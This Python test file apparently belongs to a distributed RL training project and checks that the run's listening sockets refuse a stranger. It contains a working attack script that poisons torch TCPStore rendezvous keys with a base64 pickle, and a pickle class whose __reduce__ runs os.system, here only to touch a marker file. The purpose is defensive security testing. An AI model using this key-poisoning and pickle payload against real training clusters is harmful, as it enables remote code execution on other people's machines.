"""Nobody who reaches a port of a run runs code: every listening socket is tried by a stranger.

The stranger is another user of the machine, or another host. It connects to each port, writes a pickle that
would make a file under every key of torch's stores, and opens and closes many connections.
"""

import base64
import json
import os
import pickle
import socket
import struct
import subprocess
import sys
from contextlib import ExitStack
from ctypes import addressof
from ipaddress import ip_address
from pathlib import Path

import pytest

from benchmarks.measure.two_hosts import stranger_of
from realhf.distributed.communicators import _DROP_ALL, _SO_ATTACH_FILTER
from tests.cli_tools import ForkedCommand, torchrun_on, wait_until, write_experiment
from tests.two_hosts import two_hosts_or_skip

NOBODY = 65534
ATTACK = """
import encodings.idna, json, os, socket, sys, threading
from datetime import timedelta
from torch.distributed import TCPStore

user, payload, *addresses = sys.argv[1:]
if int(user):
    os.setgid(int(user))
    os.setuid(int(user))
answers = dict.fromkeys(addresses, "it takes the connection and never answers")

def attack(address):
    host, port = address.rsplit(":", 1)
    try:
        for _ in range(50):
            socket.create_connection((host, int(port)), timeout=1).close()
        store = TCPStore(host, int(port), wait_for_workers=False, timeout=timedelta(seconds=3))
        keys = [key for key in store.list_keys() if "torch.rendezvous." in key]
        for key in keys:
            store.set(key.removeprefix("/"), payload)
        answers[address] = keys
    except (RuntimeError, OSError) as error:
        answers[address] = repr(error)

threads = [threading.Thread(target=attack, args=(address,), daemon=True) for address in addresses]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join(20)
print(json.dumps(answers), flush=True)
os._exit(0)
"""


UNHURRIED = """
import time

def reward(completions):
    time.sleep(0.2)
    return [float(len(text)) for text in completions]

experiment.reward_function = reward
"""


class MakesFile:
    def __init__(self, path: Path) -> None:
        self._path = str(path)

    def __reduce__(self):
        return os.system, (f"touch {self._path}",)


def listeners(pids) -> dict[str, int]:
    """Return address:port -> process id of every socket on which the processes listen, from /proc."""
    found = {}
    for pid in pids:
        inodes = {os.readlink(fd) for fd in _descriptors(pid)}
        for table in ("tcp", "tcp6", "udp", "udp6"):
            for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
                local, state, inode = (line.split()[i] for i in (1, 3, 9))
                if f"socket:[{inode}]" in inodes and state in ("0A", "07"):  # Listening; any of UDP.
                    host, port = local.split(":")
                    words = [bytes.fromhex(host[i : i + 8])[::-1] for i in range(0, len(host), 8)]
                    found[f"{ip_address(b''.join(words))}:{int(port, 16)}"] = pid
    return found


def _descriptors(pid: int) -> list[Path]:
    readable = []
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        try:
            os.readlink(fd)
            readable.append(fd)
        except OSError:
            continue
    return readable


def num_descriptors(pids) -> dict[int, int]:
    return {pid: len(list(Path(f"/proc/{pid}/fd").iterdir())) for pid in pids}


def attack(addresses, made: Path, *, user: int = 0, inside=()) -> dict[str, object]:
    payload = base64.b64encode(pickle.dumps(MakesFile(made))).decode()
    done = subprocess.run(
        [*inside, sys.executable, "-c", ATTACK, str(user), payload, *addresses],
        capture_output=True, text=True, timeout=120, env=os.environ | {"TORCH_CPP_LOG_LEVEL": "ERROR"},
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def may_filter() -> bool:
    """Return whether the system lets this user filter the packets of a socket."""
    with socket.socket() as own:
        try:
            own.setsockopt(socket.SOL_SOCKET, _SO_ATTACH_FILTER, struct.pack("HP", 1, addressof(_DROP_ALL)))
        except OSError:
            return False
    return True


@pytest.mark.parametrize("num_ranks", [1, 2])
def test_a_local_run_listens_on_loopback_and_unpickles_nothing(num_ranks, tmp_path):
    experiment = write_experiment(tmp_path, steps=100_000, eval_dataset=None, body=UNHURRIED)
    out = tmp_path / "run"
    with ForkedCommand("run", experiment, "--nproc", num_ranks, "--out", out) as command:
        metrics = out / "metrics.jsonl"
        assert wait_until(lambda: metrics.exists() and metrics.read_text(), seconds=90)
        found = listeners(command.processes())
        assert len(found) == (0 if num_ranks == 1 else 1 + num_ranks)  # The store, and gloo of each rank.
        assert [a for a in found if not ip_address(a.rpartition(":")[0]).is_loopback] == []
        before = num_descriptors(found.values())
        stranger = NOBODY if os.geteuid() == 0 else 0
        answers = attack(found, tmp_path / "made", user=stranger) if found else {}
        if may_filter():  # Otherwise gloo keeps the descriptors of those who connect.
            assert wait_until(lambda: num_descriptors(found.values()) == before, seconds=10)
        reached = [address for address, answer in answers.items() if isinstance(answer, list)]
        assert len(reached) == (num_ranks > 1)  # Gloo takes no connections any more.
        assert all(answers[address] == [] for address in reached)
        steps = metrics.read_text().count("\n")
        assert wait_until(lambda: metrics.read_text().count("\n") > steps, seconds=30)
        command.interrupt()
        code, _, err = command.finish()
    assert (code, "Traceback" in err) == (1, False), err
    assert not (tmp_path / "made").exists()


@pytest.mark.slow
@pytest.mark.parametrize("rendezvous", ["static", "c10d"])
def test_a_third_host_runs_code_only_through_the_rendezvous_that_unpickles(rendezvous, tmp_path):
    """The second row shows that the attack is one: it is torch's c10d rendezvous that docs/security.md
    warns of."""
    experiment, out = write_experiment(tmp_path, steps=100_000, eval_dataset=None), tmp_path / "run"
    words = ["-m", "realhf", "run", experiment, "--out", out]
    with ExitStack() as stack:
        hosts = stack.enter_context(two_hosts_or_skip())
        stranger = stack.enter_context(stranger_of(hosts[0]))
        commands = [stack.enter_context(command)
                    for command in torchrun_on(hosts, *words, per_host=1, rendezvous=rendezvous)]
        metrics = out / "metrics.jsonl"
        assert wait_until(lambda: metrics.exists() and metrics.read_text(), seconds=120)
        found = [f"{hosts[0].address}:{address.rpartition(':')[2]}"
                 for address in listeners(commands[0].processes())]
        answers = attack(found, tmp_path / "made", inside=stranger.inside)
        keys = [key for answer in answers.values() if isinstance(answer, list) for key in answer]
        assert bool(keys) == (rendezvous == "c10d")
        ran = wait_until((tmp_path / "made").exists, seconds=20)  # Agents read their state every 5 s.
        assert ran == (rendezvous == "c10d"), answers
